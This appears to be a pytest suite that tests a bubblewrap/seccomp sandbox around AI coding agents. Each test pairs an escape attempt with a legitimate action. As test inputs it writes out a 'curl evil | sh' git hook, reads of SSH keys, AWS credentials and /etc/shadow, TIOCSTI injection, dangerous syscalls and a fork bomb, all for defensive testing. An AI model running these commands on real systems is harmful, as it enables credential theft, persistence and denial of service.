"""The local box for real: bubblewrap, seccomp, pid namespace, limits. Each attack beside its legitimate twin."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from .conftest import REPO, Sandbox, own_processes

pytestmark = pytest.mark.box

PY = "/usr/bin/python3"


def ok(proc: subprocess.CompletedProcess) -> str:
    assert proc.returncode == 0, f"rc={proc.returncode}\nstdout={proc.stdout}\nstderr={proc.stderr}"
    return proc.stdout


def test_ssh_key_hidden_while_claude_state_is_readable_and_writable(box_sandbox: Sandbox) -> None:
    s = box_sandbox
    out = ok(s.box(
        'cat ~/.ssh/id_rsa 2>&1 && echo LEAKED; '
        'cat ~/.claude/settings.json; '
        'echo \'{"theme": "light"}\' > ~/.claude/settings.json && echo WROTE', "claude"))
    assert "PRIVATE-KEY" not in out and "LEAKED" not in out
    assert '"theme": "dark"' in out and "WROTE" in out
    assert (s.home / ".claude" / "settings.json").read_text().strip() == '{"theme": "light"}'


def test_rest_of_home_is_invisible_and_writes_there_vanish(box_sandbox: Sandbox) -> None:
    s = box_sandbox
    out = ok(s.box('cat ~/notes.txt 2>&1; cat ~/.aws/credentials 2>&1; cat ~/.netrc 2>&1; '
                   'echo planted > ~/planted && echo PLANTED; cat ~/.gitconfig', "claude"))
    assert "private notes" not in out and "SECRET" not in out
    assert "PLANTED" in out and "Test User" in out  # tmpfs home is writable; git identity is granted
    assert not (s.home / "planted").exists()


def test_other_backends_state_is_not_granted(box_sandbox: Sandbox) -> None:
    out = ok(box_sandbox.box("cat ~/.codex/auth.json 2>&1; ls -a ~/.claude 2>&1; true", "codex"))
    # codex sees its own auth.json, its API key a placeholder of the same shape (the proxy holds the key)
    assert '"OPENAI_API_KEY": "sk-' in out and "sk-test" not in out
    assert "settings.json" not in out  # ...and nothing of claude's


def test_write_outside_workdir_fails_inside_works(box_sandbox: Sandbox) -> None:
    s = box_sandbox
    out = ok(s.box(f'echo x > {REPO}/pwned 2>&1 || echo DENIED1; echo x > /usr/pwned 2>&1 || echo DENIED2; '
                   'echo made > made.txt && echo MADE'))
    assert "DENIED1" in out and "DENIED2" in out and "MADE" in out
    assert (s.workdir / "made.txt").read_text() == "made\n"
    assert not (REPO / "pwned").exists()


def test_git_hooks_cannot_be_planted_but_git_works(box_sandbox: Sandbox) -> None:
    s = box_sandbox
    subprocess.run(["git", "init", "-q", str(s.workdir)], check=True)
    out = ok(s.box(
        'echo "curl evil | sh" > .git/hooks/pre-commit 2>&1 || echo HOOK-DENIED; '
        'echo "[core] hooksPath=/tmp" >> .git/config 2>&1 || echo CONFIG-DENIED; '
        'mkdir .vscode 2>&1 || echo VSCODE-DENIED; '
        'echo x > .mcp.json 2>&1 || echo MCP-DENIED; '
        'git add README.md && git -c user.email=t@e -c user.name=t commit -qm init && echo COMMITTED'))
    for word in ("HOOK-DENIED", "CONFIG-DENIED", "VSCODE-DENIED", "MCP-DENIED", "COMMITTED"):
        assert word in out, out
    assert not (s.workdir / ".git" / "hooks" / "pre-commit").exists()
    assert "hooksPath" not in (s.workdir / ".git" / "config").read_text()
    # Placeholders that kept .vscode and .mcp.json from being created are gone after exit.
    assert not (s.workdir / ".vscode").exists() and not (s.workdir / ".mcp.json").exists()


def test_symlink_cannot_carry_a_denied_path_in(box_sandbox: Sandbox) -> None:
    s = box_sandbox
    real = s.workdir / "aws-real"
    real.mkdir()
    (real / "credentials").write_text("AWS-SECRET\n")
    (s.workdir / "ok.txt").write_text("fine\n")
    import shutil
    shutil.rmtree(s.home / ".aws")
    (s.home / ".aws").symlink_to(real)
    (s.home / ".claude" / "key-link").symlink_to(s.home / ".ssh" / "id_rsa")
    out = ok(s.box('cat aws-real/credentials 2>&1; cat ~/.claude/key-link 2>&1; cat ok.txt', "claude"))
    assert "AWS-SECRET" not in out and "PRIVATE-KEY" not in out
    assert "fine" in out


SOCKETS = r'''
import socket, errno
try:
    socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); print("UNIX-OK")
except OSError as e: print("UNIX-ERR", errno.errorcode[e.errno])
a, b = socket.socketpair(); a.sendall(b"ping"); print("PAIR", b.recv(4).decode())
try:
    socket.socket(40, socket.SOCK_STREAM); print("VSOCK-OK")
except OSError as e: print("VSOCK-ERR", errno.errorcode[e.errno])
import subprocess; print("SUBPROCESS", subprocess.run(["echo", "child"], capture_output=True, text=True).stdout.strip())
'''


def test_af_unix_socket_denied_socketpair_works(box_sandbox: Sandbox) -> None:
    out = ok(box_sandbox.box(f"{PY} -c '{SOCKETS}'"))
    assert "UNIX-ERR EPERM" in out and "PAIR ping" in out
    assert "VSOCK-ERR EPERM" in out and "SUBPROCESS child" in out


TIOCSTI = r'''
import os, fcntl, termios, struct, errno, pty
master, slave = pty.openpty()
ws = fcntl.ioctl(slave, termios.TIOCGWINSZ, b"\0" * 8); print("WINSZ-OK", len(ws))
for name, req in (("TIOCSTI", termios.TIOCSTI), ("TIOCSTI-HIGHBITS", termios.TIOCSTI | (1 << 32)), ("TIOCLINUX", 0x541C)):
    try:
        fcntl.ioctl(slave, req, b"x"); print(name, "ALLOWED")
    except OverflowError:
        print(name, "OVERFLOW")
    except OSError as e: print(name, errno.errorcode[e.errno])
'''


def test_tiocsti_is_eperm_while_other_tty_ioctls_work(box_sandbox: Sandbox) -> None:
    out = ok(box_sandbox.box(f"{PY} -c '{TIOCSTI}'"))
    assert "WINSZ-OK 8" in out
    assert "TIOCSTI EPERM" in out and "TIOCLINUX EPERM" in out
    assert "ALLOWED" not in out


NAMESPACES = r'''
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
def call(name, nr, *args):
    r = libc.syscall(nr, *args); print(name, "OK" if r >= 0 else errno.errorcode[ctypes.get_errno()])
call("unshare-user", 272, 0x10000000)
call("ptrace-attach", 101, 16, 1, 0, 0)
call("io_uring_setup", 425, 1, ctypes.create_string_buffer(120))
call("bpf", 321, 0, 0, 0)
call("keyctl", 250, 0, 0)
print("getpid", os.getpid())
'''


def test_dangerous_syscalls_refused_ordinary_ones_work(box_sandbox: Sandbox) -> None:
    out = ok(box_sandbox.box(f"{PY} -c '{NAMESPACES}'"))
    for name in ("unshare-user", "ptrace-attach", "io_uring_setup", "bpf", "keyctl"):
        assert f"{name} EPERM" in out, out
    assert "getpid" in out


def test_x32_abi_is_refused(box_sandbox: Sandbox) -> None:
    proc = box_sandbox.box(f"{PY} -c 'import ctypes; ctypes.CDLL(None).syscall(0x40000000 | 39); print(\"X32-RAN\")'; echo after=$?")
    assert "X32-RAN" not in proc.stdout
    assert "after=159" in proc.stdout  # SIGSYS: killed by the filter
    assert proc.returncode == 0


def test_host_pids_invisible_and_unsignalable(box_sandbox: Sandbox) -> None:
    sleeper = subprocess.Popen(["sleep", "60"])
    try:
        out = ok(box_sandbox.box(f'ls /proc | grep -c "^[0-9]"; kill -0 {sleeper.pid} 2>&1 || echo NOKILL; '
                                 f'test -e /proc/{sleeper.pid} && echo SEEN || echo UNSEEN; echo mypid=$$'))
        count = int(out.splitlines()[0])
        assert count < 10, out
        assert "NOKILL" in out and "UNSEEN" in out
        assert sleeper.poll() is None
    finally:
        sleeper.kill()
        sleeper.wait()


def test_environment_is_scrubbed_to_the_allowlist(box_sandbox: Sandbox) -> None:
    extra = {"AWS_SECRET_ACCESS_KEY": "AKIA-SECRET", "GITHUB_TOKEN": "ghp_SECRET", "SSH_AUTH_SOCK": "/tmp/agent.sock",
             "ANTHROPIC_API_KEY": "sk-ant-PASSED", "OPENAI_API_KEY": "sk-openai-NOT-FOR-CLAUDE", "LC_ALL": "C.UTF-8"}
    out = ok(box_sandbox.box("env; cat /proc/1/cmdline /proc/self/cmdline | tr '\\0' ' '", "claude", extra_env=extra))
    assert "AKIA-SECRET" not in out and "ghp_SECRET" not in out and "SSH_AUTH_SOCK" not in out
    assert "sk-openai-NOT-FOR-CLAUDE" not in out
    # Its own backend's key stays on the host (the proxy injects it); the box holds a placeholder.
    assert "sk-ant-PASSED" not in out and "ANTHROPIC_API_KEY=hive-relay-placeholder" in out
    assert "ANTHROPIC_BASE_URL=http://127.0.0.1:3128/" in out
    assert "TERM=xterm-256color" in out and "LC_ALL=C.UTF-8" in out
    # A variable the backend passes by name without a route still arrives as set (never in argv).
    named = ok(box_sandbox.box("env", "claude", extra_env={"ANTHROPIC_MODEL": "model-PASSED"}))
    assert "ANTHROPIC_MODEL=model-PASSED" in named


def test_exit_codes_pass_through(box_sandbox: Sandbox) -> None:
    assert box_sandbox.box("exit 7").returncode == 7
    assert box_sandbox.box("kill -TERM $$").returncode == 128 + signal.SIGTERM


def test_timeout_is_124_and_reaps_descendants(box_sandbox: Sandbox) -> None:
    s = box_sandbox
    marker = f"hive-timeout-{os.getpid()}"
    # Durations unique to this test (sleep takes fractions): the process census is machine-wide,
    # and another run's `sleep 300` is not this box's leftover.
    tag = f"{os.getpid() % 1000:03d}"
    proc = s.box(f"(sleep 300.{tag}; echo {marker}) & sleep 301.{tag}", "shell", "--timeout", "1")
    assert proc.returncode == 124
    assert "timed out after 1 s" in proc.stderr

    def strays() -> list[str]:
        return [p for p in _cmdlines() if p.startswith(("sleep 300." + tag, "sleep 301." + tag))]

    # The kernel kills the pid namespace asynchronously; on a loaded machine that takes a moment.
    assert _eventually(lambda: not strays() and not _leftovers(s)), (strays(), _leftovers(s))


def test_output_streams_as_it_comes(box_sandbox: Sandbox) -> None:
    s = box_sandbox
    proc = subprocess.Popen([sys.executable, "-m", "relay", "shell", "--quiet", "--prompt", "echo first; sleep 2; echo second"],
                            cwd=s.workdir, env=s.env, stdout=subprocess.PIPE, text=True)
    assert proc.stdout is not None
    first = proc.stdout.readline()
    alive_after_first = proc.poll() is None
    rest = proc.stdout.read()
    proc.wait()
    assert first == "first\n" and alive_after_first and "second" in rest


def test_dns_fails_fast_inside(box_sandbox: Sandbox) -> None:
    out = ok(box_sandbox.box(f"{PY} -c 'import socket\ntry:\n socket.getaddrinfo(\"example.com\", 443); print(\"RESOLVED\")\n"
                             f"except OSError as e: print(\"NODNS\", e)'"))
    assert "NODNS" in out and "RESOLVED" not in out


def test_direct_connection_skipping_the_proxy_fails(box_sandbox: Sandbox) -> None:
    out = ok(box_sandbox.box(f"{PY} -c 'import socket\ntry:\n socket.create_connection((\"1.1.1.1\", 443), timeout=3); print(\"CONNECTED\")\n"
                             f"except OSError as e: print(\"NOROUTE\", e.errno)'"))
    assert "NOROUTE" in out and "CONNECTED" not in out


def test_box_is_never_root_and_cannot_remount(box_sandbox: Sandbox) -> None:
    out = ok(box_sandbox.box("id -u; mount -o remount,rw / 2>&1 || echo NOREMOUNT; cat /etc/shadow 2>&1 | head -c 40; "
                             "grep CapEff /proc/self/status"))
    lines = out.splitlines()
    assert lines[0] != "0"
    assert "NOREMOUNT" in out and "root:" not in out
    assert "CapEff:\t0000000000000000" in out


FORKS = r'''
import os, time, signal
kids = []
try:
    for _ in range(200):
        pid = os.fork()
        if pid == 0:
            time.sleep(30)
            os._exit(0)
        kids.append(pid)
except OSError as e:
    print("FORK-FAILED", e.errno)
print("started", len(kids))
for k in kids:
    os.kill(k, signal.SIGKILL)
'''


def test_memory_and_process_limits_hit(box_sandbox: Sandbox) -> None:
    s = box_sandbox
    out = ok(s.box(
        f"{PY} -c 'b = bytearray(64 << 20); print(\"SMALL-OK\")'; "
        f"{PY} -c 'b = bytearray(1 << 30); print(\"BIG-OK\")' 2>/dev/null; echo big=$?; "
        f"{PY} -c '{FORKS}'",
        "shell", "--profile", "tight"))
    assert "SMALL-OK" in out and "BIG-OK" not in out
    started = int(out.split("started ")[1].split()[0])
    assert "FORK-FAILED" in out and 5 <= started < 64, out


def test_fork_bomb_is_contained(box_sandbox: Sandbox) -> None:
    s = box_sandbox
    proc = s.box("bomb() { bomb | bomb & }; bomb; sleep 3; echo survived", "shell", "--profile", "tight",
                 "--timeout", "20")
    # Contained is the promise, not that the box's own shell survives its bomb: under rlimits (no
    # cgroup: unprivileged on v1) the process budget is the uid's, so on a busy machine the shell's own
    # fork for `sleep` can fail too, and bash then exits 254.
    shell_starved = proc.returncode == 254 and "fork: Resource temporarily unavailable" in proc.stderr
    assert proc.returncode in (0, 124) or shell_starved, (proc.returncode, proc.stderr[-500:])
    assert _eventually(lambda: _leftovers(s) == []), _leftovers(s)
    # The host still forks fine.
    assert subprocess.run(["true"]).returncode == 0


def _cgroups_of(pid: int) -> dict[str, str]:
    """controller -> path of PID's cgroups on the v1 hierarchies that hold limits."""
    found = {}
    for line in Path(f"/proc/{pid}/cgroup").read_text().splitlines():
        _, controllers, path = line.split(":", 2)
        for c in controllers.split(","):
            if c in ("memory", "pids"):
                found[c] = path
    return found


@pytest.mark.parametrize("workdir", ["staged", "live"])
def test_the_box_runs_in_its_cgroup_from_its_first_instruction(box_sandbox: Sandbox, workdir: str) -> None:
    """The box joins its cgroup from inside, before bwrap's exec (the cheap kernel path): seen from the
    host, the box's process is in the run's memory and pids cgroups, with the plan's limits; the
    launcher is not. Without a cgroup (unprivileged on v1), the box has the plan's rlimits instead."""
    s = box_sandbox
    marker = f"hive-cgroup-{os.getpid()}-{workdir}"
    launcher = subprocess.Popen([sys.executable, "-m", "relay", "shell", "--quiet", f"--{workdir}",
                                 "--profile", "tight", "--prompt", f"sleep 30; : {marker}"],
                                cwd=s.workdir, env=s.env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    try:
        assert _eventually(lambda: bool(_box_sleeps(marker))), "box never started"
        pid = _box_sleeps(marker)[0]
        box, ours = _cgroups_of(pid), _cgroups_of(launcher.pid)
        if os.getuid() == 0 and Path("/sys/fs/cgroup/pids/cgroup.procs").exists():
            for controller in ("memory", "pids"):
                assert box[controller].startswith("/hive-relay-"), (controller, box)
                assert ours[controller] != box[controller], (controller, ours)
            limit = Path("/sys/fs/cgroup/pids" + box["pids"]) / "pids.max"
            assert limit.read_text().strip() == "64", limit.read_text()
        else:  # the twin without cgroups: the box is where we are, and limited by rlimits
            assert box == ours
            nproc = next(line for line in Path(f"/proc/{pid}/limits").read_text().splitlines()
                         if line.startswith("Max processes"))
            assert nproc.split()[2] == "64", nproc
    finally:
        launcher.kill()
        launcher.wait()
    assert _eventually(lambda: _leftovers(s) == []), _leftovers(s)


def _box_sleeps(marker: str) -> list[int]:
    """The box's shell that runs the marked prompt (the launcher's own argv carries the marker too)."""
    return [pid for pid, cmd in own_processes() if marker in cmd and cmd.split(" ", 1)[0] in ("/bin/sh", "/bin/bash")]


def test_a_box_that_cannot_join_its_cgroup_never_starts(tmp_path: Path) -> None:
    """The fork path's own refusal: a join that fails is one line and exit 3, and the command never runs;
    the twin with nothing to join runs it."""
    flag = tmp_path / "ran"
    script = ("import os, sys; from relay.box import fork_spawn; "
              "pid = fork_spawn.spawn('/bin/sh', ['sh', '-c', 'touch ' + sys.argv[1]], dict(os.environ), [], None, "
              "join=sys.argv[2:]); sys.exit(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))")
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    refused = subprocess.run([sys.executable, "-c", script, str(flag), str(tmp_path / "no-cgroup" / "tasks")],
                             env=env, capture_output=True, text=True, timeout=60)
    assert refused.returncode == 3 and not flag.exists(), refused
    assert refused.stderr.startswith("hive-relay: cannot join the box's cgroup (No such file or directory); "
                                     "the box did not start; fix: "), refused.stderr
    assert refused.stderr.count("\n") == 1, refused.stderr
    ran = subprocess.run([sys.executable, "-c", script, str(flag)], env=env, capture_output=True, text=True, timeout=60)
    assert ran.returncode == 0 and flag.exists(), ran


def test_the_launchers_children_are_found_as_a_full_scan_finds_them() -> None:
    """procs.children reads each thread's `children` list: it finds what a scan of every process's
    stat finds, a thread's child after that thread ended, and an orphan that came back to us as a
    subreaper; and nothing once they are reaped."""
    script = """
import os, subprocess, sys, threading, time
from relay.host import procs
assert procs.become_subreaper()
me = os.getpid()
kids = [subprocess.Popen(["sleep", "30"]) for _ in range(2)]
t = threading.Thread(target=lambda: kids.append(subprocess.Popen(["sleep", "30"])))
t.start(); t.join()
subprocess.run(["sh", "-c", "sleep 30 & exit 0"])  # its sleep is orphaned, and comes back to us
deadline = time.monotonic() + 10
while len(procs.processes_where(1, me)) < 4 and time.monotonic() < deadline:
    time.sleep(0.01)
found, scanned = procs.children(me), procs.processes_where(1, me)
print(len(found), found == scanned)
procs.reap_descendants(set())
print(len(procs.children(me)), len(procs.processes_where(1, me)))
"""
    out = subprocess.run([sys.executable, "-c", script], env={**os.environ, "PYTHONPATH": str(REPO)},
                         capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    assert out.stdout.split() == ["4", "True", "0", "0"], out.stdout


def test_a_tree_thousands_deep_in_the_box_git_dir_is_removed_and_a_launcher_with_many_fds_runs(
        box_sandbox: Sandbox) -> None:
    """Teardown removes the run dir without recursion (the box's private git dir is part of it, and
    the box made a tree 3,000 levels deep there), and a launcher that inherited 1,100 fds (numbers past
    select's 1,024) starts and waits for its box; the twin is the same run with neither."""
    s = box_sandbox
    subprocess.run(["git", "init", "-q", str(s.workdir)], check=True)
    deep = (f"{PY} -c \"import os; os.chdir('.git')\n"
            "for _ in range(3000): os.mkdir('d'); os.chdir('d')\nprint('DEEP')\"")
    assert "DEEP" in ok(s.box(deep))
    assert _eventually(lambda: _leftovers(s) == []), _leftovers(s)
    wrapper = ("import os, resource, sys; resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096)); "
               "fds = [os.open('/dev/null', os.O_RDONLY) for _ in range(1100)]; "
               "os.execv(sys.executable, [sys.executable, '-m', 'relay', 'shell', '--quiet', '--prompt', 'echo FDS-OK'])")
    out = subprocess.run([sys.executable, "-c", wrapper], cwd=s.workdir, env=s.env, capture_output=True, text=True,
                         timeout=120)
    assert out.returncode == 0 and "FDS-OK" in out.stdout, out
    assert "FDS-OK" in ok(s.box("echo FDS-OK"))
    assert _eventually(lambda: _leftovers(s) == []), _leftovers(s)


def test_kill_9_of_launcher_leaves_nothing(box_sandbox: Sandbox) -> None:
    s = box_sandbox
    marker = f"hive-kill9-{os.getpid()}"
    launcher = subprocess.Popen([sys.executable, "-m", "relay", "claude", "--quiet", "--prompt", f"sleep 300 # {marker}"],
                                cwd=s.workdir, env=s.env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.time() + 30
        while time.time() < deadline and not _box_procs(marker):
            time.sleep(0.05)
        assert _box_procs(marker), "box never started"
        assert list((s.root / "run").iterdir()), "the claude run dir (for ~/.claude.json sync) should exist"
    finally:
        launcher.kill()
        launcher.wait()
    deadline = time.time() + 10
    while time.time() < deadline and (_box_procs(marker) or _leftovers(s)):
        time.sleep(0.05)
    assert not _box_procs(marker)
    assert _leftovers(s) == []


def test_kill_9_of_launcher_while_the_agent_runs_leaves_nothing(box_sandbox: Sandbox) -> None:
    s = box_sandbox
    launcher = subprocess.Popen([sys.executable, "-m", "relay", "shell", "--quiet", "--prompt", "sleep 301; true"],
                                cwd=s.workdir, env=s.env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.time() + 30
        while time.time() < deadline and "sleep 301 " not in _own_cmdlines():
            time.sleep(0.05)
        assert "sleep 301 " in _own_cmdlines(), "the agent never started"
    finally:
        launcher.kill()
        launcher.wait()
    deadline = time.time() + 10
    while time.time() < deadline and ("sleep 301 " in _own_cmdlines() or _leftovers(s)):
        time.sleep(0.05)
    assert "sleep 301 " not in _own_cmdlines()
    assert _leftovers(s) == []


def _box_procs(marker: str) -> list[str]:
    """Processes of the box itself (the launcher's own argv also carries the marker)."""
    return [c for c in _cmdlines() if marker in c and not c.startswith(sys.executable)]


def test_claude_json_sync_back(box_sandbox: Sandbox) -> None:
    s = box_sandbox
    out = ok(s.box('cat ~/.claude.json; echo \'{"numStartups": 2}\' > ~/.claude.json.tmp && mv ~/.claude.json.tmp ~/.claude.json && echo RENAMED',
                   "claude"))
    assert '"numStartups": 1' in out and "RENAMED" in out
    assert (s.home / ".claude.json").read_text().strip() == '{"numStartups": 2}'
    assert _leftovers(s) == []


def _own_cmdlines() -> list[str]:
    """This user's command lines only (a census of a fixed `sleep N`: the other test pass, run as
    another user alongside, runs the same one)."""
    from .conftest import own_processes

    return [c for _, c in own_processes()]


def _cmdlines() -> list[str]:
    out = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as fh:
                    out.append(fh.read().replace(b"\0", b" ").decode(errors="replace"))
            except OSError:
                pass
    return out


def _eventually(condition: Callable[[], bool], timeout: float = 15) -> bool:
    """Poll until true (a correctness check with a generous bound, not a timing assertion)."""
    deadline = time.monotonic() + timeout
    while not condition():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.05)
    return True


def _leftovers(s: Sandbox) -> list[str]:
    found = [str(p) for p in (s.root / "run").iterdir()]
    for p in s.workdir.iterdir():
        try:
            if p.name.startswith(".") and p.name != ".git" and p.lstat().st_size == 0:
                found.append(str(p))
        except FileNotFoundError:
            pass  # removed by the janitor while we looked
    for controller in ("memory", "pids"):
        base = Path("/sys/fs/cgroup") / controller
        if base.is_dir():
            found += [str(p) for p in base.glob("hive-relay-*") if _abandoned(p)]
    return found


def _abandoned(cgroup: Path) -> bool:
    """A leaked cgroup is empty and its launcher is gone (other boxes may run concurrently)."""
    try:
        if (cgroup / "cgroup.procs").read_text().strip():
            return False
    except OSError:
        return False
    owner = cgroup.name.removeprefix("hive-relay-").split("-")[0]
    return not (owner.isdigit() and Path(f"/proc/{owner}").exists())


def test_placeholders_stay_out_of_git_status(box_sandbox: Sandbox) -> None:
    s = box_sandbox
    subprocess.run(["git", "init", "-q", str(s.workdir)], check=True)
    ignore = s.home / ".config" / "git" / "ignore"
    ignore.parent.mkdir(parents=True, exist_ok=True)
    ignore.write_text("*.log\n")
    (s.workdir / "debug.log").write_text("x")
    out = ok(s.box("git status --short --untracked-files=all; echo new > new.txt; git status --short"))
    lines = [ln for ln in out.splitlines() if ln.strip()]
    assert "?? README.md" in lines and "?? new.txt" in lines
    assert not any(name in out for name in (".vscode", ".mcp.json", ".bashrc", ".envrc")), out
    assert "debug.log" not in out  # the user's own global excludes still apply


def test_timeout_kills_a_command_run_without_a_terminal(box_sandbox: Sandbox) -> None:
    """`-- CMD` keeps a terminal like a session, but an explicit --timeout is honoured (issue 27.5)."""
    box = box_sandbox
    proc = box.relay("shell", "--quiet", "--timeout", "2", "--", "sleep", "60", timeout=120)
    assert proc.returncode == 124, proc.stderr
    assert "timed out after 2 s" in proc.stderr
    twin = box.relay("shell", "--quiet", "--timeout", "60", "--", "sh", "-c", "echo quick")
    assert twin.returncode == 0 and twin.stdout == "quick\n", twin.stderr


def test_an_orderly_launch_has_removed_its_run_dir_when_it_returns(box_sandbox: Sandbox) -> None:
    """The janitor removes the run dir after it handed the launcher its messages (janitor.LAST_QUIET,
    overlapping the closing lines), and the launcher waits for it before it exits: gone at once, no
    polling. The twin: the run dir existed while the box ran."""
    s = box_sandbox
    subprocess.run(["git", "init", "-q", str(s.workdir)], check=True)
    # Files the box writes into its private .git (in the run dir), so that the removal takes a while.
    script = "mkdir -p .git/many && for i in $(seq 3000); do : > .git/many/$i; done; sleep 1; echo DONE"
    out_path = s.root / "launcher.out"
    with open(out_path, "w") as out:  # a file, not a pipe: waiting on a pipe's end waits for the janitor too
        launcher = subprocess.Popen([sys.executable, "-m", "relay", "shell", "--quiet", "--prompt", script],
                                    cwd=s.workdir, env=s.env, stdout=out, stderr=subprocess.STDOUT)
        try:
            assert _eventually(lambda: bool(list((s.root / "run").iterdir()))), "the run dir never existed"
            rc = launcher.wait(timeout=60)
        finally:
            launcher.kill()
    assert rc == 0 and "DONE" in out_path.read_text(), out_path.read_text()[-2000:]
    assert list((s.root / "run").iterdir()) == []
